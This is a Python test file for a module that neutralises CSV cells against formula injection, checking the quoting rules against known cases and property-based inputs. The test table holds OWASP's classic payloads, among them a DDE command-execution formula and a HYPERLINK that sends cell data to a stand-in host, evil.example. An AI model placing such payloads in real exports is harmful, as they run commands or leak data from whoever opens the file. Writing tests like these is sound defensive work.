"""CSV cells a spreadsheet can never take for formulas (OWASP's CSV Injection), written
as RFC 4180, and undone by dropping the one quote put in front."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vigile.render.spreadsheet import Cell, csv_cell, csv_text

# Known answers. The first rows are OWASP's CSV Injection page's triggers (= + - @, tab,
# carriage return) and its classic payloads, the issue's HYPERLINK; NUL is ASVS 5.0's
# V1.2.10; the rest are this module's own rules (see its docstring).
KNOWN = [
    ("=1+2", "'=1+2"),
    ("+1+2", "'+1+2"),
    ("-1+2", "'-1+2"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("\tplain", "'\tplain"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    ),
    ("\x00=1", "'\x00=1"),
    (" =1+2", "' =1+2"),  # a formula behind spaces: an importer may trim them
    ("\n@x", "'\n@x"),
    ("\u00a0-x", "'\u00a0-x"),  # any Unicode space
    ("-5", "'-5"),  # text, even when it looks like a number
    ("'quoted", "''quoted"),  # so that one quote is always the one put in front
    ("", ""),
    ("T-88121", "T-88121"),  # a trigger later in the text is harmless
    ("a=1", "a=1"),
    ("contact.view", "contact.view"),
    ("2021-05-20T09:00:00Z", "2021-05-20T09:00:00Z"),
    ("   ", "   "),
]


@pytest.mark.parametrize(("value", "cell"), KNOWN)
def test_text_cells(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


@pytest.mark.parametrize(("number", "cell"), [(0, "0"), (7, "7"), (-5, "-5"), (2**63, str(2**63))])
def test_vigiles_own_numbers_are_plain_decimals(number: int, cell: str) -> None:
    assert csv_cell(number) == cell


def test_csv_text_is_rfc_4180_with_every_cell_neutralised() -> None:
    text = csv_text(("a", "b", "n"), [("x,y", '=1+"2"', -5), ("line\nbreak", "@a", 3)])
    assert text == (
        "a,b,n\r\n"
        '"x,y","\'=1+""2""",-5\r\n'  # quoted for the comma and the quotes
        '"line\nbreak",\'@a,3\r\n'
    )


@given(st.lists(st.lists(st.one_of(st.text(), st.integers()), min_size=1, max_size=4)))
def test_every_cell_reads_back_and_none_is_a_formula(rows: list[list[Cell]]) -> None:
    width = max((len(row) for row in rows), default=1)
    padded = [row + [""] * (width - len(row)) for row in rows]
    header = [f"c{i}" for i in range(width)]
    read = list(csv.reader(io.StringIO(csv_text(header, padded), newline="")))
    assert read[0] == header
    for row, cells in zip(padded, read[1:], strict=True):
        for value, cell in zip(row, cells, strict=True):
            if isinstance(value, int):
                assert cell == str(value)
                continue
            assert (cell[1:] if cell.startswith("'") else cell) == value
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\x00"}
            assert cell.lstrip()[:1] not in {"=", "+", "-", "@"}
